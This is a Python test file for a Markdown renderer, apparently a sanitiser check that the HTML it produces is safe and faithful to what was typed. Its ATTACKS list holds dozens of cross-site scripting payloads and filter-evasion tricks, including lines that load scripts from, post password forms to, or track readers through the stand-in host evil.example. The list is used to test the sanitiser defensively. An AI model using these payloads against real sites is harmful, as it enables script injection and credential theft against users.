"""What people write: Markdown in, safe HTML out."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.quotations import quoted
from core.text import SCHEMES, TAGS, draws_something, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<a href='javascript:alert(1)'>press</a>",
    "<p style='position:fixed'>over all</p>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a id=csrfmiddlewaretoken name=body>clobber</a>",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](java&#115;cript:alert(1))",
    "[press](javascript&colon;alert(1))",
    "[press](\x01javascript:alert(1))",
    "[press](<java\nscript:alert(1)>)",
    "[press](vbscript:msgbox(1))",
    "[press](data:text/html;base64,PHNjcmlwdD4=)",
    "[press](//evil.example/)",
    "[press](\\\\evil.example)",
    "[press](/accounts/logout/)",
    "[press](?reply=1)",
    "[press](#write)",
    "[press](file:///etc/passwd)",
    "[press](https://ok.example 'onmouseover=alert(1)')",
    '[press](https://ok.example "&quot; onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "<https://ok.example/?a=<script>>",
    "![picture](https://evil.example/pixel.gif)",
    "![picture](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![picture](https://evil.example/pixel.gif)](https://ok.example)",
    "[press]: javascript:alert(1)\n\n[press]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\nwords\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "- <a href=javascript:alert(1)>press</a>",
    "**<b onmouseover=alert(1)>bold</b>**",
    "<div data-region='posts' id='region-posts' hx-get='//evil.example' hx-trigger='load'>",
    "<div data-stream='topic.1.members' data-seq='0'>",
    "\x00<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]


MAY_HAVE = {
    "a": {"href", "rel"},
    "blockquote": {"dir"},
    "li": {"dir", "value"},
    "ol": {"dir", "start"},
    "p": {"dir"},
    "ul": {"dir"},
}


class Page(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def harmless(html):
    for tag, attributes in Page(html).tags:
        assert tag in TAGS, tag
        assert set(attributes) <= MAY_HAVE.get(tag, set()), attributes
        if "href" in attributes:
            scheme = re.match(r"([a-z]+):", attributes["href"])
            assert scheme, attributes
            assert scheme[1] in SCHEMES, attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"
    return True


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_shown_as_text_or_not_at_all(attack):
    assert harmless(render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_the_midst_of_words_leaves_the_words(attack):
    html = render(f"Before\n\n{attack}\n\nAfter")

    assert harmless(html)
    assert "Before" in html


@given(st.text())
def test_whatever_is_typed_is_harmless(typed):
    assert harmless(render(typed))


@given(st.lists(st.sampled_from([*ATTACKS, "](", "<", ">", "\n", "`", "*", "&", '"', "'"])))
def test_no_mixture_of_attacks_gets_through(pieces):
    assert harmless(render("".join(pieces)))


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("One\nTwo", "<p>One<br>\nTwo</p>\n"),
        ("**Two** buses", "<p><strong>Two</strong> buses</p>\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        ("*three* buses", "<p><em>three</em> buses</p>\n"),
        (
            "3. three\n7. seven",
            '<ol start="3">\n<li value="3">three</li>\n<li value="7">seven</li>\n</ol>\n',
        ),
        (
            ">>> - one\n>>> two\n\nNo",
            "<blockquote>\n<ul>\n<li>one<br>\ntwo</li>\n</ul>\n</blockquote>\n<p>No</p>\n",
        ),
        ("5 < 7 & 7 > 5", "<p>5 &lt; 7 &amp; 7 &gt; 5</p>\n"),
        (
            "[the plan](https://ok.example/plan)",
            '<p><a href="https://ok.example/plan" rel="noopener noreferrer nofollow">the plan</a></p>\n',
        ),
        (
            "[write](mailto:sally@example.org)",
            '<p><a href="mailto:sally@example.org" rel="noopener noreferrer nofollow">write</a></p>\n',
        ),
    ],
)
def test_what_people_mean_comes_out(source, html):
    assert render(source).replace(' dir="auto"', "") == html


def test_each_block_runs_in_the_direction_of_its_own_words():
    html = render("یہ جلسہ\n\n>>> - one\n\n2. two")

    assert Page(html).tags == [
        ("p", {"dir": "auto"}),
        ("blockquote", {"dir": "auto"}),
        ("ul", {"dir": "auto"}),
        ("li", {"dir": "auto"}),
        ("ol", {"dir": "auto", "start": "2"}),
        ("li", {"dir": "auto", "value": "2"}),
    ]


AS_TYPED = [
    "Notes from the telephone:\n\n[Leroy]: agreed\n[Doreen]: no",
    "[Tariq]: agreed",
    "Sources:\n\n[1]: https://example.org/report",
    "3. I agree with the third point only.",
    "> 50% of residents said no",
    "+ 5 per cent",
    "* a footnote",
    "Regards\n--\nDoreen",
    "Regards\n==\nDoreen",
    "\\\\server\\share",
    "2*3*4 is 24, and 2**3 is 8, and 3**2 is 9",
    "snake_case and _this_",
    "# 1 on the list",
    "`code` and ~~~ and ```",
    "<b>bold</b> &amp; &copy; <!-- a remark -->",
    "<https://example.org>",
    "![a picture](https://example.org/p.png)",
    "[the plan](/plan) and [press](javascript:alert(1))",
    '[the plan](https://example.org "its title")',
    "***\n---\n___",
    "1) one\n02. two\n1234. four",
    "- one\n+ two\n* three",
    "- " * 40 + "deep",
    ">>> " * 40 + "deep",
    "| a | b |\n|---|---|\n| 1 | 2 |",
]


class Reader(HTMLParser):
    """What a reader sees, with the signs that are drawn as something else written out again."""

    def __init__(self, html):
        super().__init__()
        self.seen, self.links = "", []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        value = dict(attrs).get("value")
        signs = {"strong": "**", "em": "*", "a": "[", "li": f"{value}. " if value else "- "}
        self.seen += signs.get(tag, " ")
        if tag == "a":
            self.links.append(dict(attrs)["href"])

    def handle_endtag(self, tag):
        signs = {"strong": "**", "em": "*", "a": "]"}
        self.seen += signs.get(tag, " ")
        if tag == "a":
            self.seen += f"({self.links.pop()})"

    def handle_data(self, data):
        self.seen += data


def without_spaces(words):
    """``words`` without white space, and without the signs of a quotation."""
    return re.sub(r"\s|>>>|\x00|\ufffd", "", words)


def seen(source):
    return without_spaces(Reader(render(source)).seen)


@pytest.mark.parametrize("typed", AS_TYPED)
def test_what_is_typed_is_what_is_shown(typed):
    assert seen(typed) == without_spaces(typed)


SIGNS = [
    "- ", "+ ", "* ", "1. ", "3. ", "12) ", "007. ", "> ", ">>> ", "# ", "--", "==", "***", "**",
    "*", "_", "`", "```", "~~~", "\\", "&amp;", "<b>", "[", "]", "](", ")", "(https://a.example/b_(c))",
    "[a](https://a.example)", "[a]: b", "    ", "\t", "\n", "\n\n", " ", "a", "Zoë", "你好", "7", "|", "!",
]  # fmt: skip


@given(st.lists(st.sampled_from(SIGNS) | st.text(max_size=4), max_size=30))
def test_every_letter_digit_and_sign_that_is_typed_is_shown(pieces):
    typed = "".join(
        character for character in "".join(pieces) if character.isprintable() or character in "\n\t"
    )

    assert seen(typed) == without_spaces(typed)


@pytest.mark.parametrize(
    "typed",
    [
        "",
        " \n",
        "\u200b",
        "\u2800",
        "\u3164",
        "\u00ad",
        "\ufeff\u2060",
        "**\u200b**",
        "- ",
        ">>> ",
        "1. ",
    ],
)
def test_nothing_is_shown_of_what_nobody_can_see(typed):
    assert not draws_something(typed)


@pytest.mark.parametrize("typed", ["a", "7", "?", "🙂", "ö", "你", "ਹ", "*", "--"])
def test_one_sign_is_something_to_see(typed):
    assert draws_something(typed)


@given(st.text())
def test_what_is_quoted_is_a_quotation_and_nothing_else_is(body):
    html = render(quoted(body) + "Mine")

    assert html.startswith('<blockquote dir="auto">') is (body.splitlines() != [])
    assert html.endswith('<p dir="auto">Mine</p>\n')
